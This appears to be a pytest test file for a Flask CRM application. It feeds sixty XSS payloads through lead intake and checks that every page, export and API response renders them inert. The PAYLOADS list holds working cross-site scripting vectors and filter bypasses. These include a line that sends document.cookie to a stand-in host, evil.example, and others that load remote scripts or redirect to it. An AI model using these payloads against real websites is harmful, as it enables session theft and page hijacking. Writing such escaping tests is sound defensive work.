"""Lead-supplied text is always escaped: 60 XSS payloads through the queue, the lead page, the raw
payload view, the CSV export and the API.

The check is structural: the pages are parsed and must contain no element or attribute that the
templates did not put there (no script but ours, no event handler, no javascript: URL, no injected
iframe, object, embed, base, meta or form).
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from flask.testing import FlaskClient

from crm.db import Database
from crm.models import Lead
from tests.web.conftest import Browser, Team, classify

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</summary></details><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<marquee onstart=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    "<object type=text/html data=//evil.example>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7*7 }}<b>jinja</b>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}<i>tpl</i>",
    "<!--<script>alert(1)-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "javascript:alert(document.cookie)",
    "\u202e<script>alert(1)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "</script><script>alert(1)</script>",
]

ALLOWED_TAGS = {
    "html", "head", "meta", "title", "link", "body", "header", "nav", "a", "form", "input", "button", "main",
    "div", "section", "h1", "h2", "h3", "p", "span", "strong", "label", "select", "option", "table", "caption",
    "thead", "tbody", "tr", "th", "td", "br", "ol", "ul", "li", "details", "summary", "pre", "code", "dl", "dt",
    "dd", "textarea", "aside", "q", "fieldset", "legend", "iframe", "article", "script", "svg", "rect", "text", "line",
}


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"unexpected <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "style", "formaction", "background"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "data") and value and value.strip().lower().startswith(
                    ("javascript:", "data:", "//")):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and values.get("src") != "/static/web.js":
            self.problems.append("injected <script>")
        if tag == "iframe" and "sandbox" not in values:
            self.problems.append("iframe without sandbox")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append("meta http-equiv")
        if tag == "form" and not (values.get("action") or "/").startswith("/"):
            self.problems.append(f"form to {values.get('action')!r}")


def inspect(html: str) -> list[str]:
    parser = Inspector()
    parser.feed(html)
    return parser.problems


def test_there_are_at_least_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.fixture
def hostile_leads(db: Database, team: Team, client: FlaskClient) -> list[str]:
    ids = []
    for n, payload in enumerate(PAYLOADS):
        body = {
            "first_name": payload[:100], "last_name": payload[:100], "email": f"x{n}@example.org",
            "message": payload, "occupation": payload[:200], "employer_name": payload[:200],
            "citizenships": [payload[:50]], "x_unknown_field": payload, "source_url": payload[:500],
        }
        response = client.post("/api/leads", json=body)
        if response.status_code == 422:
            # Intake refuses some payloads in one-line fields (a bidi override since 2467945): the page
            # still gets them through the message, the unknown field and the classification below.
            one_line = set(response.get_json()["errors"])
            response = client.post("/api/leads", json={
                **body, **{name: ["IE"] if name == "citizenships" else "plain" for name in one_line}})
        assert response.status_code == 201, (payload, response.get_data(as_text=True))
        ids.append(response.get_json()["id"])
    for n, lead_id in enumerate(ids):
        classify(db, lead_id, flags=["needs-review"], reasons=[PAYLOADS[n]], missing=[PAYLOADS[-n - 1]])
    with db.transaction() as session:
        for n, lead_id in enumerate(ids):
            session.get(Lead, lead_id).assignee_id = team.consultant_id if n % 2 else None
    return ids


def test_payloads_are_inert_in_the_queue(hostile_leads: list[str], admin: Browser) -> None:
    seen = 0
    url = "/leads?scope=all&status=any"
    while url:
        response = admin.get(url)
        html = response.get_data(as_text=True)
        assert inspect(html) == []
        for payload in PAYLOADS:
            if "<" in payload:
                assert payload[:100] not in html
        seen += html.count('name="lead_ids"')
        marker = html.find('rel="next" href="')
        url = html[marker + 17:html.find('"', marker + 17)].replace("&amp;", "&") if marker >= 0 else ""
    assert seen == len(PAYLOADS)
    assert inspect(admin.get("/leads?q=%3Cscript%3E&scope=all").get_data(as_text=True)) == []


def test_payloads_are_inert_on_the_lead_page_and_in_previews(hostile_leads: list[str], admin: Browser) -> None:
    for n, lead_id in enumerate(hostile_leads):
        admin.post(f"/leads/{lead_id}/note", {"note": PAYLOADS[n]})
        html = admin.get(f"/leads/{lead_id}?preview=1").get_data(as_text=True)
        assert inspect(html) == [], PAYLOADS[n]
        if "<" in PAYLOADS[n]:
            assert PAYLOADS[n] not in html


def test_raw_payloads_are_plain_text_and_exports_are_data(hostile_leads: list[str], admin: Browser,
                                                          client: FlaskClient, team: Team, db: Database) -> None:
    with db.transaction() as session:
        inquiries = [(lead_id, session.get(Lead, lead_id).inquiries[0].id) for lead_id in hostile_leads]
    for lead_id, inquiry_id in inquiries:
        response = admin.get(f"/leads/{lead_id}/inquiries/{inquiry_id}/raw")
        assert response.mimetype == "text/plain"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
    export = admin.get(f"/leads/{hostile_leads[0]}/export.json")
    assert export.mimetype == "application/json"
    api = client.get(f"/api/leads/{hostile_leads[0]}", headers={"Authorization": f"Bearer {team.token}"})
    assert api.mimetype == "application/json" and api.get_json()["first_name"] == PAYLOADS[0]
    csv_text = admin.get("/leads/export.csv?scope=all&status=any").get_data(as_text=True)
    assert "<script>alert(1)</script>" in csv_text  # data, served as text/csv with attachment disposition


def test_dashboard_escapes_chart_labels(hostile_leads: list[str], admin: Browser) -> None:
    assert inspect(admin.get("/dashboard").get_data(as_text=True)) == []
